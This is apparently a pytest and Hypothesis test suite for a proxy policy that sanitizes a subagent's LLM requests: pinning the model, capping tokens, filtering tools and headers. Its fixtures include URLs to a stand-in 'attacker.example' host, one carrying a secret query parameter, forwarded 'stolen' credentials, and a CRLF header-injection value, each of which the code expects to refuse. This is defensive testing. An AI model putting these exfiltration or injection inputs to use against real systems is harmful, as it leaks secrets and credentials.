"""RequestPolicy: what of a subagent's LLM request reaches the provider, for concrete hostile requests and for
any JSON a hostile subagent can send (property test)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.settings import LLMProvider
from runner.llm_policy import (
    ANTHROPIC_KEYS,
    ANTHROPIC_PROVIDER_TOOL_KEYS,
    CHAT_COMPLETIONS_PATH,
    MAX_DROPPED_LABELS,
    MAX_LABEL_CHARS,
    MESSAGES_PATH,
    OPENAI_KEYS,
    OPENAI_PROVIDER_TOOL_KEYS,
    RequestPolicy,
    Sanitized,
)
from runner.llm_upstream import ProxyError

MODEL = "pinned-small-model"
PLENTY = 1_000_000  # tokens left in the run's budget when the budget is not what a test is about
OPENAI = RequestPolicy(LLMProvider.OPENAI, MODEL, allow_provider_tools=False)
ANTHROPIC = RequestPolicy(LLMProvider.ANTHROPIC, MODEL, allow_provider_tools=False)
OFFLINE = RequestPolicy(LLMProvider.OFFLINE, MODEL, allow_provider_tools=False)
OPENAI_TOOLS = RequestPolicy(LLMProvider.OPENAI, MODEL, allow_provider_tools=True)
ANTHROPIC_TOOLS = RequestPolicy(LLMProvider.ANTHROPIC, MODEL, allow_provider_tools=True)
CHAT_POLICIES = [OPENAI, OFFLINE]  # both speak chat completions

USER_MESSAGE = {"role": "user", "content": "hi"}
OPENAI_BASH = {"type": "function", "function": {"name": "bash", "parameters": {"type": "object"}}}
ANTHROPIC_BASH = {"name": "bash", "input_schema": {"type": "object"}}
ANTHROPIC_CUSTOM = {"type": "custom", "name": "read_file", "input_schema": {"type": "object"}}
ANTHROPIC_WEB_SEARCH = {"type": "web_search_20250305", "name": "web_search", "max_uses": 99}


def sanitize(policy: RequestPolicy, payload: object, remaining: int = PLENTY) -> Sanitized:
    return policy.sanitize(policy.path, payload, remaining)


def body(**extra: Any) -> dict[str, Any]:
    return {"model": "most-expensive-model", "messages": [USER_MESSAGE], **extra}


def refused(policy: RequestPolicy, payload: object, remaining: int = PLENTY) -> ProxyError:
    with pytest.raises(ProxyError) as info:
        sanitize(policy, payload, remaining)
    return info.value


# --- endpoints -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("policy", "path"), [(OPENAI, CHAT_COMPLETIONS_PATH), (OFFLINE, CHAT_COMPLETIONS_PATH), (ANTHROPIC, MESSAGES_PATH)]
)
def test_each_provider_serves_its_one_endpoint(policy: RequestPolicy, path: str) -> None:
    policy.check_path(path)
    assert policy.path == path


@pytest.mark.parametrize("policy", [OPENAI, OFFLINE, ANTHROPIC, OPENAI_TOOLS, ANTHROPIC_TOOLS])
@pytest.mark.parametrize(
    "path", ["/v1/responses", "/v1/embeddings", "/v1/files", "/v1/messages/batches", "/v1/chat/completions/", ""]
)
def test_other_endpoints_are_not_served_even_with_provider_tools(policy: RequestPolicy, path: str) -> None:
    if path == policy.path:
        return
    with pytest.raises(ProxyError) as info:
        policy.check_path(path)
    assert (info.value.status, info.value.error_type) == (404, "endpoint_not_served")
    with pytest.raises(ProxyError) as info:
        policy.sanitize(path, body(), PLENTY)
    assert info.value.status == 404


def test_each_provider_refuses_the_other_providers_endpoint() -> None:
    for policy, path in [(OPENAI, MESSAGES_PATH), (OFFLINE, MESSAGES_PATH), (ANTHROPIC, CHAT_COMPLETIONS_PATH)]:
        with pytest.raises(ProxyError):
            policy.check_path(path)


# --- the body's shape ------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [[], "text", None, 3, [body()]])
def test_a_body_that_is_not_an_object_is_refused(payload: object) -> None:
    error = refused(OPENAI, payload)
    assert (error.status, error.error_type) == (400, "invalid_request")


@pytest.mark.parametrize("policy", [OPENAI, ANTHROPIC])
@pytest.mark.parametrize("messages", [None, "hi", {"role": "user"}, 3])
def test_messages_must_be_a_list(policy: RequestPolicy, messages: object) -> None:
    payload = body(messages=messages) if messages is not None else {"model": "m"}
    assert refused(policy, payload).status == 400


def test_stream_options_must_be_an_object() -> None:
    assert refused(OPENAI, body(stream=True, stream_options=[1])).status == 400
    assert sanitize(OPENAI, body(stream=True, stream_options={"include_usage": True})).payload["stream_options"]


# --- top-level keys --------------------------------------------------------------------------------------


def test_openai_keys_outside_the_allow_list_are_dropped_and_listed() -> None:
    extra = {
        "n": 8,
        "service_tier": "priority",
        "store": True,
        "logit_bias": {"1": 100},
        "prediction": {"type": "content", "content": "x"},
        "web_search_options": {},
        "metadata": {"a": "b"},
    }
    result = sanitize(OPENAI, body(temperature=0.2, stream=False, **extra))
    assert set(result.payload) == {"model", "messages", "temperature", "stream", "max_completion_tokens"}
    assert set(result.dropped) == set(extra)


def test_anthropic_keys_outside_the_allow_list_are_dropped_and_listed() -> None:
    extra = {
        "n": 8,
        "service_tier": "auto",
        "speed": "fast",
        "mcp_servers": [{"type": "url", "url": "https://mcp.example", "name": "x"}],
        "container": "container_1",
        "context_management": {},
    }
    result = sanitize(ANTHROPIC, body(system="be brief", top_k=5, max_tokens=100, **extra))
    assert set(result.payload) == {"model", "messages", "system", "top_k", "max_tokens"}
    assert set(result.dropped) == set(extra)


def test_provider_tool_keys_pass_only_when_provider_tools_are_allowed() -> None:
    openai = sanitize(OPENAI_TOOLS, body(web_search_options={}, service_tier="priority", n=3))
    assert "web_search_options" in openai.payload
    assert set(openai.dropped) == {"service_tier", "n"}
    anthropic = sanitize(ANTHROPIC_TOOLS, body(mcp_servers=[], container="c", service_tier="auto"))
    assert {"mcp_servers", "container"} <= set(anthropic.payload)
    assert anthropic.dropped == ("service_tier",)


@pytest.mark.parametrize("policy", [OPENAI, OFFLINE, ANTHROPIC])
def test_the_model_is_pinned_whatever_was_asked(policy: RequestPolicy) -> None:
    assert sanitize(policy, body()).payload["model"] == MODEL
    assert sanitize(policy, {"messages": []}).payload["model"] == MODEL
    assert sanitize(policy, body(model=["a", "list"])).payload["model"] == MODEL


def test_the_callers_payload_is_not_modified() -> None:
    payload = body(n=4, max_tokens=10**9, tools=[OPENAI_BASH, {"type": "web_search"}], tool_choice="auto")
    before = json.dumps(payload)
    sanitize(OPENAI, payload)
    assert json.dumps(payload) == before
    thinking = body(max_tokens=2_000, thinking={"type": "enabled", "budget_tokens": 10**9})
    before = json.dumps(thinking)
    sanitize(ANTHROPIC, thinking)
    assert json.dumps(thinking) == before


def test_dropped_labels_are_bounded_in_number_and_length() -> None:
    junk = {f"{'k' * 500}{i}": i for i in range(1_000)}
    dropped = sanitize(OPENAI, body(**junk)).dropped
    assert len(dropped) == MAX_DROPPED_LABELS + 1
    assert all(len(label) <= MAX_LABEL_CHARS for label in dropped)
    assert dropped[-1] == f"... and {1_000 - MAX_DROPPED_LABELS} more"


# --- output tokens ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("requested", "ceiling", "remaining", "expected"),
    [
        (10**30, 16_384, PLENTY, 16_384),  # the per-call ceiling
        (10**30, 16_384, 500, 500),  # what is left of the run's budget
        (800, 16_384, PLENTY, 800),  # a modest request stands
        (0, 16_384, PLENTY, 1),
        (-(10**30), 16_384, PLENTY, 1),
        (None, 4_096, PLENTY, 4_096),  # not asked: the ceiling is set
        (None, 4_096, 7, 7),
    ],
)
@pytest.mark.parametrize("provider", list(LLMProvider))
def test_output_tokens_are_capped(
    provider: LLMProvider, requested: int | None, ceiling: int, remaining: int, expected: int
) -> None:
    policy = RequestPolicy(provider, MODEL, allow_provider_tools=False, max_output_tokens=ceiling)
    key = "max_tokens" if provider is LLMProvider.ANTHROPIC else "max_completion_tokens"
    payload = body() if requested is None else body(**{key: requested})
    assert sanitize(policy, payload, remaining).payload[key] == expected


def test_openai_keeps_the_token_field_it_was_given() -> None:
    only_max_tokens = sanitize(OPENAI, body(max_tokens=10**9)).payload
    assert only_max_tokens["max_tokens"] == OPENAI.max_output_tokens
    assert "max_completion_tokens" not in only_max_tokens
    both = sanitize(OPENAI, body(max_tokens=10**9, max_completion_tokens=50))
    assert (both.payload["max_tokens"], both.payload["max_completion_tokens"]) == (OPENAI.max_output_tokens, 50)
    assert both.output_cap == OPENAI.max_output_tokens  # the larger of the two is what the call may spend


@pytest.mark.parametrize("policy", [OPENAI, ANTHROPIC])
def test_output_cap_is_what_the_call_may_spend(policy: RequestPolicy) -> None:
    assert sanitize(policy, body(max_tokens=300)).output_cap == 300
    assert sanitize(policy, body(max_tokens=10**9), remaining=77).output_cap == 77
    assert sanitize(policy, body()).output_cap == policy.max_output_tokens


@pytest.mark.parametrize("policy", [OPENAI, ANTHROPIC])
@pytest.mark.parametrize("value", ["100000", 1e9, float("inf"), True, None, [5], {"n": 5}])
def test_a_token_count_that_is_not_an_integer_is_refused(policy: RequestPolicy, value: object) -> None:
    error = refused(policy, body(max_tokens=value))
    assert (error.status, error.error_type) == (400, "invalid_request")


@pytest.mark.parametrize("policy", [OPENAI, OFFLINE, ANTHROPIC, OPENAI_TOOLS])
@pytest.mark.parametrize("remaining", [0, -1, -(10**12)])
def test_a_spent_budget_is_refused_with_429(policy: RequestPolicy, remaining: int) -> None:
    error = refused(policy, body(max_tokens=1), remaining)
    assert (error.status, error.error_type) == (429, "run_token_budget")
    assert "SUBAGENT_MAX_TOKENS" in error.message


def test_anthropic_thinking_budget_stays_below_max_tokens() -> None:
    asked = body(max_tokens=10**9, thinking={"type": "enabled", "budget_tokens": 10**9})
    payload = sanitize(ANTHROPIC, asked, remaining=5_000).payload
    assert payload["max_tokens"] == 5_000
    assert payload["thinking"] == {"type": "enabled", "budget_tokens": 4_999}
    modest = body(max_tokens=8_000, thinking={"type": "enabled", "budget_tokens": 2_048})
    assert sanitize(ANTHROPIC, modest).payload["thinking"]["budget_tokens"] == 2_048
    adaptive = body(thinking={"type": "adaptive"})
    assert sanitize(ANTHROPIC, adaptive).payload["thinking"] == {"type": "adaptive"}


@pytest.mark.parametrize("thinking", ["on", [1], {"type": "enabled", "budget_tokens": "9"}, {"budget_tokens": 1.5}])
def test_a_malformed_thinking_setting_is_refused(thinking: object) -> None:
    assert refused(ANTHROPIC, body(thinking=thinking)).status == 400


# --- tools -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("policy", CHAT_POLICIES)
def test_openai_keeps_function_tools_only(policy: RequestPolicy) -> None:
    tools = [
        OPENAI_BASH,
        {"type": "web_search"},
        {"type": "custom", "custom": {"name": "x"}},
        {"function": {"name": "untyped"}},
    ]
    result = sanitize(policy, body(tools=tools, tool_choice="auto"))
    assert result.payload["tools"] == [OPENAI_BASH]
    assert result.payload["tool_choice"] == "auto"
    assert set(result.dropped) == {"tools[web_search]", "tools[custom]", "tools[NoneType]"}


def test_anthropic_keeps_client_tools_only() -> None:
    server_tools: list[dict[str, Any]] = [
        ANTHROPIC_WEB_SEARCH,
        {"type": "web_fetch_20250910", "name": "web_fetch"},
        {"type": "code_execution_20250825", "name": "code_execution"},
        {"type": "mcp_toolset", "mcp_server_name": "x"},
    ]
    result = sanitize(ANTHROPIC, body(tools=[ANTHROPIC_BASH, *server_tools, ANTHROPIC_CUSTOM]))
    assert result.payload["tools"] == [ANTHROPIC_BASH, ANTHROPIC_CUSTOM]
    assert set(result.dropped) == {f"tools[{tool['type']}]" for tool in server_tools}


def test_a_tool_choice_naming_a_dropped_tool_is_removed() -> None:
    openai = sanitize(
        OPENAI,
        body(
            tools=[OPENAI_BASH, {"type": "web_search_preview"}],
            tool_choice={"type": "function", "function": {"name": "web_search"}},
        ),
    )
    assert "tool_choice" not in openai.payload
    assert "tool_choice" in openai.dropped
    anthropic = sanitize(
        ANTHROPIC,
        body(tools=[ANTHROPIC_BASH, ANTHROPIC_WEB_SEARCH], tool_choice={"type": "tool", "name": "web_search"}),
    )
    assert "tool_choice" not in anthropic.payload
    assert set(anthropic.dropped) == {"tools[web_search_20250305]", "tool_choice"}


def test_a_tool_choice_naming_a_kept_tool_stays() -> None:
    choice = {"type": "function", "function": {"name": "bash"}}
    assert sanitize(OPENAI, body(tools=[OPENAI_BASH], tool_choice=choice)).payload["tool_choice"] == choice
    for anthropic_choice in [{"type": "tool", "name": "bash"}, {"type": "any"}, {"type": "auto"}]:
        payload = sanitize(ANTHROPIC, body(tools=[ANTHROPIC_BASH], tool_choice=anthropic_choice)).payload
        assert payload["tool_choice"] == anthropic_choice


def test_an_unhashable_tool_name_is_not_a_match() -> None:
    choice = {"type": "tool", "name": ["bash"]}
    assert "tool_choice" not in sanitize(ANTHROPIC, body(tools=[ANTHROPIC_BASH], tool_choice=choice)).payload


def test_when_no_tool_is_left_the_tool_settings_go_too() -> None:
    asked = body(tools=[{"type": "web_search"}], tool_choice="required", parallel_tool_calls=True)
    result = sanitize(OPENAI, asked)
    assert not {"tools", "tool_choice", "parallel_tool_calls"} & set(result.payload)
    assert set(result.dropped) == {"tools[web_search]", "tools", "tool_choice", "parallel_tool_calls"}


def test_provider_tools_survive_when_allowed() -> None:
    openai_tools = [OPENAI_BASH, {"type": "web_search"}]
    openai_choice = {"type": "web_search"}
    openai = sanitize(OPENAI_TOOLS, body(tools=openai_tools, tool_choice=openai_choice))
    assert (openai.payload["tools"], openai.payload["tool_choice"], openai.dropped) == (openai_tools, openai_choice, ())
    choice = {"type": "tool", "name": "web_search"}
    anthropic = sanitize(ANTHROPIC_TOOLS, body(tools=[ANTHROPIC_WEB_SEARCH], tool_choice=choice))
    assert anthropic.payload["tools"] == [ANTHROPIC_WEB_SEARCH]
    assert anthropic.payload["tool_choice"] == choice


@pytest.mark.parametrize("policy", [OPENAI, ANTHROPIC])
@pytest.mark.parametrize("tools", [{"type": "function"}, "bash", [OPENAI_BASH, "web_search"]])
def test_malformed_tools_are_refused(policy: RequestPolicy, tools: object) -> None:
    assert refused(policy, body(tools=tools)).status == 400


# --- content the provider would fetch --------------------------------------------------------------------

FETCHING_PARTS: list[tuple[RequestPolicy, dict[str, Any]]] = [
    (OPENAI, {"type": "image_url", "image_url": {"url": "https://attacker.example/?secret=1"}}),
    (OPENAI, {"type": "image_url", "image_url": "https://attacker.example/"}),
    (OPENAI, {"type": "file", "file": {"file_id": "file-operators-own"}}),
    (ANTHROPIC, {"type": "image", "source": {"type": "url", "url": "https://attacker.example/x.png"}}),
    (ANTHROPIC, {"type": "document", "source": {"type": "url", "url": "https://attacker.example/x.pdf"}}),
    (ANTHROPIC, {"type": "document", "source": {"type": "file", "file_id": "file_1"}}),
    (ANTHROPIC, {"type": "container_upload", "file_id": "file_1"}),
    (
        ANTHROPIC,
        {
            "type": "tool_result",
            "tool_use_id": "t1",
            "content": [{"type": "image", "source": {"type": "url", "url": "https://attacker.example/"}}],
        },
    ),
]


@pytest.mark.parametrize(("policy", "part"), FETCHING_PARTS)
def test_content_the_provider_would_fetch_is_refused(policy: RequestPolicy, part: dict[str, Any]) -> None:
    payload = body(messages=[{"role": "user", "content": [{"type": "text", "text": "look"}, part]}])
    error = refused(policy, payload)
    assert (error.status, error.error_type) == (400, "invalid_request")
    assert "SUBAGENT_ALLOW_PROVIDER_TOOLS" in error.message
    allowed = RequestPolicy(policy.provider, MODEL, allow_provider_tools=True)
    assert sanitize(allowed, payload).payload["messages"] == payload["messages"]


@pytest.mark.parametrize(
    ("policy", "part"),
    [
        (OPENAI, {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}),
        (ANTHROPIC, {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBO"}}),
        (ANTHROPIC, {"type": "text", "text": "https://example.com is just text"}),
    ],
)
def test_inline_content_passes(policy: RequestPolicy, part: dict[str, Any]) -> None:
    payload = body(messages=[{"role": "user", "content": [part]}])
    assert sanitize(policy, payload).payload["messages"] == payload["messages"]


def test_deeply_nested_content_is_scanned_without_recursion() -> None:
    nested: Any = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/"}}
    for _ in range(50_000):
        nested = [nested]
    assert refused(ANTHROPIC, body(messages=[{"role": "user", "content": nested}])).status == 400


# --- headers ---------------------------------------------------------------------------------------------


def test_only_harmless_headers_reach_the_provider() -> None:
    incoming = {
        "Accept": "application/json",
        "Anthropic-Version": "2023-06-01",
        "Anthropic-Beta": "mcp-client-2025-04-04",
        "OpenAI-Beta": "assistants=v2",
        "Authorization": "Bearer stolen",
        "x-api-key": "stolen",
        "Cookie": "a=b",
        "Host": "llm",
    }
    assert OPENAI.headers(incoming) == {"accept": "application/json", "anthropic-version": "2023-06-01"}
    assert ANTHROPIC_TOOLS.headers(incoming) == {
        "accept": "application/json",
        "anthropic-version": "2023-06-01",
        "anthropic-beta": "mcp-client-2025-04-04",
        "openai-beta": "assistants=v2",
    }


def test_a_header_value_with_a_line_break_is_not_forwarded() -> None:
    assert ANTHROPIC.headers({"accept": "a\r\nx-api-key: k", "anthropic-version": "2023-06-01"}) == {
        "anthropic-version": "2023-06-01"
    }


@pytest.mark.parametrize(("model", "ceiling"), [("", 100), (MODEL, 0), (MODEL, -1)])
def test_a_policy_needs_a_model_and_a_positive_ceiling(model: str, ceiling: int) -> None:
    with pytest.raises(ValueError):
        RequestPolicy(LLMProvider.OPENAI, model, allow_provider_tools=False, max_output_tokens=ceiling)


# --- property: whatever JSON a subagent sends ------------------------------------------------------------

leaves = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=-(10**40), max_value=10**40)
    | st.floats()
    | st.text(max_size=20)
)
json_values = st.recursive(
    leaves,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=12,
)
tool_names = st.sampled_from(["bash", "read_file", "web_search"]) | json_values
tool_types = st.sampled_from(["function", "custom", "web_search", "web_search_20250305", "mcp_toolset"]) | json_values
tools = st.one_of(
    st.fixed_dictionaries({"type": st.just("function"), "function": st.fixed_dictionaries({"name": tool_names})}),
    st.fixed_dictionaries({"name": tool_names}, optional={"type": tool_types, "input_schema": json_values}),
    json_values,
)
tool_choices = st.one_of(
    st.sampled_from(["auto", "none", "required", "any"]),
    st.fixed_dictionaries({"type": st.just("function"), "function": st.fixed_dictionaries({"name": tool_names})}),
    st.fixed_dictionaries({"type": st.sampled_from(["tool", "auto", "any", "web_search"]), "name": tool_names}),
    json_values,
)
urls = st.sampled_from(["https://attacker.example/", "data:image/png;base64,AAAA"]) | json_values
parts = st.recursive(
    st.one_of(
        st.fixed_dictionaries({"type": st.just("text"), "text": st.text(max_size=10)}),
        st.fixed_dictionaries({"type": st.just("image_url"), "image_url": st.fixed_dictionaries({"url": urls})}),
        st.fixed_dictionaries(
            {"type": st.just("image"), "source": st.fixed_dictionaries({"type": st.sampled_from(["url", "base64"])})}
        ),
        st.fixed_dictionaries({"type": st.just("file"), "file": st.fixed_dictionaries({"file_id": json_values})}),
        json_values,
    ),
    lambda inner: st.fixed_dictionaries({"type": st.just("tool_result"), "content": st.lists(inner, max_size=3)}),
    max_leaves=4,
)
messages = st.fixed_dictionaries({"role": st.sampled_from(["user", "assistant"]), "content": st.lists(parts)})
token_counts = st.integers() | st.integers(min_value=-(10**40), max_value=10**40) | json_values
other_fields = {
    "model": json_values,
    "max_tokens": token_counts,
    "max_completion_tokens": token_counts,
    "n": token_counts,
    "tools": st.lists(tools, max_size=4) | json_values,
    "tool_choice": tool_choices,
    "parallel_tool_calls": json_values,
    "thinking": st.fixed_dictionaries({"type": st.just("enabled"), "budget_tokens": token_counts}) | json_values,
    "stream_options": st.fixed_dictionaries({"include_usage": json_values}) | json_values,
    "system": st.lists(parts, max_size=2) | json_values,
    **{key: json_values for key in ("web_search_options", "mcp_servers", "container", "service_tier", "input")},
}
junk_fields = st.dictionaries(st.text(max_size=12), json_values, max_size=4)
# Bodies that get past the first checks (a messages list), so the rest of the rules are exercised often...
plausible_bodies = st.builds(
    lambda known, extra: {**extra, **known},
    st.fixed_dictionaries({"messages": st.lists(messages, max_size=3)}, optional=other_fields),
    junk_fields,
)
# ...and anything at all.
hostile_bodies = st.builds(
    lambda known, extra: {**extra, **known},
    st.fixed_dictionaries({}, optional={"messages": json_values | st.lists(json_values), **other_fields}),
    junk_fields,
)
remainders = st.integers(min_value=1, max_value=10**40) | st.integers(min_value=1, max_value=100_000)
policies = st.builds(
    RequestPolicy,
    provider=st.sampled_from(list(LLMProvider)),
    model=st.text(min_size=1, max_size=20),
    allow_provider_tools=st.booleans(),
    max_output_tokens=st.integers(min_value=1, max_value=10**7),
)


def fetches(value: object) -> bool:
    """The test's own reading of "content the provider would fetch" (recursive: the strategies are shallow)."""
    if isinstance(value, list):
        return any(fetches(item) for item in value)
    if not isinstance(value, dict):
        return False
    source, image = value.get("source"), value.get("image_url")
    url = image.get("url") if isinstance(image, dict) else image
    return (
        "file_id" in value
        or (isinstance(source, dict) and source.get("type") in ("url", "file"))
        or (image is not None and not (isinstance(url, str) and url.startswith("data:")))
        or any(fetches(item) for item in value.values())
    )


def assert_safe(policy: RequestPolicy, sent: dict[str, Any], remaining: int, result: Sanitized) -> None:
    payload = result.payload
    anthropic = policy.provider is LLMProvider.ANTHROPIC
    allowed = ANTHROPIC_KEYS if anthropic else OPENAI_KEYS
    if policy.allow_provider_tools:
        allowed |= ANTHROPIC_PROVIDER_TOOL_KEYS if anthropic else OPENAI_PROVIDER_TOOL_KEYS
    assert set(payload) <= allowed
    assert "n" not in payload
    assert payload["model"] == policy.model
    assert isinstance(payload["messages"], list)
    token_keys = [key for key in ("max_tokens", "max_completion_tokens") if key in payload]
    assert (token_keys == ["max_tokens"]) if anthropic else bool(token_keys)
    for key in token_keys:
        assert type(payload[key]) is int
        assert 1 <= payload[key] <= min(policy.max_output_tokens, remaining)
    assert result.output_cap == max(payload[key] for key in token_keys)
    assert result.output_cap == max(payload[key] for key in token_keys)  # what the proxy holds back
    thinking = payload.get("thinking")
    if isinstance(thinking, dict) and "budget_tokens" in thinking:
        assert thinking["budget_tokens"] < payload["max_tokens"]
    if not policy.allow_provider_tools:
        kept = payload.get("tools")
        if kept is not None:
            assert kept, "an empty tools list is a provider error"
            for tool in kept:
                assert tool.get("type") in (None, "custom") if anthropic else tool.get("type") == "function"
        choice = payload.get("tool_choice")
        if isinstance(choice, dict) and choice.get("type") == ("tool" if anthropic else "function"):
            named = choice.get("name") if anthropic else choice["function"]["name"]
            assert named in [tool.get("name") if anthropic else tool["function"].get("name") for tool in kept or []]
        assert not fetches([payload["messages"], payload.get("system")])
    json.dumps(payload)  # still JSON: the proxy serializes it as it is
    removed = {key[:MAX_LABEL_CHARS] for key in sent if key not in payload}
    if len(result.dropped) <= MAX_DROPPED_LABELS:
        assert removed <= set(result.dropped)


def check(policy: RequestPolicy, path: str, sent: object, remaining: int) -> None:
    """Either a body that satisfies the rules comes back, or a ProxyError with a 4xx; the input is left alone."""
    before = repr(sent)
    try:
        result = policy.sanitize(path, sent, remaining)
    except ProxyError as error:
        assert 400 <= error.status < 500
        assert error.error_type and error.message
        if path == policy.path and isinstance(sent, dict) and remaining <= 0:
            assert (error.status, error.error_type) == (429, "run_token_budget")
    else:
        assert path == policy.path and remaining > 0 and isinstance(sent, dict)
        assert_safe(policy, sent, remaining, result)
    assert repr(sent) == before, "the caller's payload was modified"


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(policy=policies, sent=plausible_bodies, remaining=remainders)
def test_plausible_hostile_bodies_are_made_safe_or_refused(
    policy: RequestPolicy, sent: dict[str, Any], remaining: int
) -> None:
    check(policy, policy.path, sent, remaining)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    policy=policies,
    path=st.sampled_from(["/v1/responses", CHAT_COMPLETIONS_PATH, MESSAGES_PATH]) | st.text(max_size=30),
    sent=hostile_bodies | json_values,
    remaining=remainders | st.integers(min_value=-(10**40), max_value=0),
)
def test_any_json_on_any_path_is_made_safe_or_refused_with_a_4xx(
    policy: RequestPolicy, path: str, sent: object, remaining: int
) -> None:
    check(policy, path, sent, remaining)
